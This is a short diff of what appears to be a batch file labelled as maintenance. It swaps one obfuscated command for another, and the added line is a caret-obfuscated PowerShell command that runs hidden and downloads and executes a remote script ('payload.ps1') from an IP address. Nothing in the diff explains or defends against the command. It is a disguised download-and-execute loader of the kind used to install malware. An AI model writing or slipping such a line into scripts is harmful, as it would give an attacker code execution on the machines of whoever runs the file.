@@ -1,2 +1,2 @@
-REM maintenance 7185 v0
-^p^o^w^ershe^l^l -nop -w hidd^en -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
+REM maintenance 1909 v0
+p^owe^r^sh^e^ll -^no^p -w ^hidd^en -^c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
